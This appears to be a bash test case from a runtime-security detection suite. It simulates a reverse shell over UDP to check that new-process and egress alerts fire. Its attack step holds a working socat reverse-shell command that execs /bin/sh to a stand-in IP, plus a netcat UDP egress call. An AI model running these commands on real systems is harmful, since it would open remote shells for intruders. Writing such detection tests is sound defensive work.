# shellcheck shell=bash disable=SC2034
# SPDX-License-Identifier: GPL-2.0-or-later
case_title='a shell over UDP and over IPv6 to a neighbour'
case_class=A
case_prepare() {
	run app pg-many nginx -g 'daemon off;'
	client_of c "http://A09udp-app/"
}
case_attack() {
	bg app sh -c 'exec socat UDP:203.0.113.9:5353 EXEC:/bin/sh'
	sleep 0.5
	in_ app sh -c 'sleep 0.1; echo | nc -u -w 1 203.0.113.9 5354'
	sleep 0.5
}
case_expect='process.new A09udp-app /usr/bin/socat* *
egress.new A09udp-app /usr/bin/* ext:203.0.113.9'
